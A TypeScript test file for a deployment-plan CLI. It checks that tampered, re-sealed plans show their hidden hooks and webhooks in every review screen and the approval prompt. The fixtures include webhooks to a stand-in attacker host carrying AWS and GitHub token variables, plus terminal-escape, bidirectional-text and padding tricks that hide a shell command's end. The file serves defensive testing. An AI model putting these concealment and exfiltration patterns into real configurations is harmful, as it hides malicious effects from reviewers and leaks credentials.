/** Attacks on the review: something hidden in a plan that was sealed again. Nobody applies what was not shown. */
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { showPlan } from '../../src/cli/ask-yes.ts';
import { approve } from '../../src/cli/commands/plan/approve.ts';
import type { Options } from '../../src/cli/options.ts';
import type { Terminal } from '../../src/cli/terminal.ts';
import type { SavedPlan, Wave } from '../../src/model.ts';
import { renderReview } from '../../src/operations/render.ts';
import { draftPlan, finishPlan } from '../../src/plan/make-plan.ts';
import { parsePlan } from '../../src/plan/parse/parse-plan.ts';
import { readSavedPlan } from '../../src/plan/saved/read-saved-plan.ts';
import { encodeSavedPlan, sealPlan } from '../../src/plan/saved/seal-plan.ts';
import { NO_POLICY } from '../../src/policy/tighten.ts';
import { diffPlans } from '../../src/report/plan-diff/plan-diff.ts';
import { PLAN_DIFF_FORMATS, renderPlanDiff } from '../../src/report/plan-diff/render-plan-diff.ts';
import { REVIEW_FORMATS } from '../../src/report/review/render-review.ts';
import { approver, pemOf } from '../approval/people.ts';
import { sealedPlan } from '../plan/fixtures/sealed-plan.ts';
import { inventory, NOW, standard } from '../plan/fixtures/small-fleet.ts';

const folder = mkdtempSync(join(tmpdir(), 'refit-effects-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const PLAN = ((): SavedPlan => {
  const text = `version: 1
name: harmless
defaults: { region: ap-guangzhou }
targets: [{ instance: crs-aaaaaaaa, memoryPerShard: 8GB }]
`;
  const { plan } = parsePlan(text, 'plan.yaml');
  const fleet = inventory([standard({ id: 'crs-aaaaaaaa' })]);
  return sealedPlan(finishPlan(draftPlan(plan!, fleet, NOW), { quotes: null, now: NOW, saveAs: null }));
})();

/** The plan with something hidden in it, sealed again as anyone can, and without a word about it in its findings. */
function hiding(more: Partial<SavedPlan>): SavedPlan {
  const { digest: _, ...unsealed } = PLAN;
  return sealPlan({ ...unsealed, ...more, findings: [] });
}

const gate = (gateOf: Partial<NonNullable<Wave['gate']>>): Partial<SavedPlan> => ({
  waves: PLAN.waves.map((wave) => ({
    ...wave,
    gate: { timeout: 10_000, onInconclusive: 'pause', shadow: false, ...gateOf },
  })),
});
const webhook = (of: Partial<NonNullable<SavedPlan['notify']>[number]>): Partial<SavedPlan> => ({
  notify: [{ url: null, urlEnv: null, form: 'json', on: ['end'], secretEnv: null, ...of }],
});

/** A terminal that answers with `answers`, and keeps what it shows. */
function terminalOf(answer: string | null) {
  const shown: string[] = [];
  const terminal = {
    env: {},
    clock: { now: () => NOW, monotonic: () => 0, sleep: async () => undefined },
    out: async (text: string) => void shown.push(text),
    err: (text: string) => void shown.push(text),
    hint: (text: string) => void shown.push(text),
    color: { out: false, err: false },
    width: 100,
    errWidth: () => 100,
    interactive: answer !== null,
    quiet: false,
    verbose: false,
    progress: 'auto',
    async ask(question: string) {
      shown.push(question);
      return answer;
    },
  } as unknown as Terminal;
  return { terminal, text: () => shown.join('') };
}

/** Everything that a person can see of a plan, by the name of what shows it. */
async function screens(saved: SavedPlan): Promise<[name: string, text: string][]> {
  const review = { verdict: 'ready', plan: saved, findings: saved.findings, next: null } as const;
  const asked = terminalOf('no');
  await showPlan(saved, join(folder, 'saved.json'), NO_POLICY, asked.terminal);
  const diff = diffPlans(PLAN, saved);
  const options = { color: false, width: 100, all: false };
  return [
    ...REVIEW_FORMATS.map((format): [string, string] => [
      `show --format ${format}`,
      renderReview(review, format, options),
    ]),
    ['show --summary', renderReview(review, 'text', { ...options, summary: true })],
    ['the question of apply and approve', asked.text()],
    ...PLAN_DIFF_FORMATS.map((format): [string, string] => [
      `diff --format ${format}`,
      renderPlanDiff(diff, format, { ...options, elsewhere: 'refit diff a b --all' }),
    ]),
  ];
}

/** A screen as its reader sees it: wrapped lines joined, and the escapes of Markdown gone. */
const read = (text: string) => text.replaceAll(/\\(?=[_[\]:*])/g, '').replaceAll(/\s+/g, ' ');

describe('something hidden in a plan that was sealed again', () => {
  it.each<[title: string, hidden: Partial<SavedPlan>, seen: string]>([
    ['a hook', { hooks: { halt: ['evil-program', 'now'] } }, 'evil-program now'],
    ['a command of a gate', gate({ command: ['evil-program', 'now'] }), 'evil-program now'],
    ['an address of a gate', gate({ url: 'https://evil.example/' }), 'evil.example'],
    ['an address to notify', webhook({ url: 'https://evil.example/' }), 'evil.example'],
    ['a variable with an address', webhook({ urlEnv: 'AWS_SECRET_ACCESS_KEY' }), '$AWS_SECRET_ACCESS_KEY'],
    [
      'a variable with a secret',
      webhook({ url: 'https://evil.example/', secretEnv: 'GITHUB_TOKEN' }),
      '$GITHUB_TOKEN',
    ],
  ])('%s is shown by every format, the difference and the question', async (_, hidden, seen) => {
    const saved = readSavedPlan(encodeSavedPlan(hiding(hidden)));
    const blind = (await screens(saved)).filter(([, text]) => {
      const words = seen.split(' ');
      const inJson = text.startsWith('{') && words.every((word) => text.includes(word.replace('$', '')));
      return !inJson && !read(text).includes(seen);
    });
    expect(blind.map(([name]) => name)).toEqual([]);
    expect(diffPlans(PLAN, saved).same).toBe(false);
  });

  it.each<[title: string, argument: string]>([
    ['controls of the terminal', 'a\u001b[2K\r\u001b]0;x\u0007 evil-end'],
    ['another direction of text', 'a\u202e dne \u2066evil-end'],
    ['five thousand letters', `${'a'.repeat(5000)} evil-end`],
    ['five thousand blanks', `a${' '.repeat(5000)}evil-end`],
    ['line feeds', `a${'\n'.repeat(300)}evil-end`],
  ])('the end of a command is shown behind %s', async (_, argument) => {
    // The plan in memory: sealing and reading refuse most of these texts already.
    const saved = { ...PLAN, hooks: { halt: ['sh', '-c', argument] }, findings: [] };
    for (const [name, text] of await screens(saved)) {
      expect(read(text), name).toContain('evil-end');
      expect(text, name).not.toMatch(/(?!\r\n|\n)[\p{Cc}\p{Cf}]/u);
      expect(text.split('\n').length, name).toBeLessThan(name.includes('json') ? 1000 : 300);
    }
    const cut = (await screens(saved)).find(([name]) => name === 'show --format text')![1];
    if (argument.startsWith('aaaa'))
      expect(read(cut)).toContain('characters are left out here; --all shows them');
    const all = renderReview({ verdict: 'ready', plan: saved, findings: [], next: null }, 'text', {
      all: true,
    });
    if (argument.startsWith('aaaa')) expect(all).toContain('a'.repeat(5000));
  });

  it('a host behind a user name is shown by its own name', async () => {
    // The plan in memory: sealing and reading refuse such an address already.
    const saved = { ...PLAN, ...gate({ url: 'https://good.example@evil.example/ready' }), findings: [] };
    for (const [name, text] of await screens(saved))
      if (!name.includes('json'))
        expect(read(text).replaceAll(/<\/?span>/g, ''), name).toContain('(host evil.example)');
  });
});

describe('refit approve', () => {
  const saved = hiding({
    hooks: { halt: ['evil-program'] },
    approvals: { need: 1, authors: ['li'], approvers: [approver('wei')] },
  });
  const run = async (answer: string | null) => {
    const own = mkdtempSync(join(folder, 'approve-'));
    const [plan, key] = [join(own, 'saved.json'), join(own, 'wei.key')];
    writeFileSync(plan, encodeSavedPlan(saved), { mode: 0o600 });
    writeFileSync(key, pemOf('wei'), { mode: 0o600 });
    const { terminal, text } = terminalOf(answer);
    const options = { key, format: 'text' } as unknown as Options;
    const end = await approve([plan], options, terminal).catch((error: Error) => error.message);
    return { end, text: text(), signed: readdirSync(own).some((name) => name.includes('.approval-')) };
  };

  it.each<[title: string, answer: string | null, end: number | string, signed: boolean]>([
    ['signs after a yes', 'yes', 0, true],
    ['signs nothing after a no', 'no', expect.stringContaining('nothing was signed'), false],
    ['signs nothing after an empty answer', '', expect.stringContaining('nothing was signed'), false],
    ['signs without a terminal, where nobody can answer', null, 0, true],
  ])('shows effects and the whole digest, and %s', async (_, answer, end, signed) => {
    const result = await run(answer);
    expect(result.end).toEqual(end);
    expect(result.signed).toBe(signed);
    expect(result.text).toContain('at halt: evil-program');
    expect(result.text).toContain(saved.digest);
    if (answer !== null) expect(result.text).toContain('Approve this plan as wei? Only "yes" is accepted: ');
  });
});
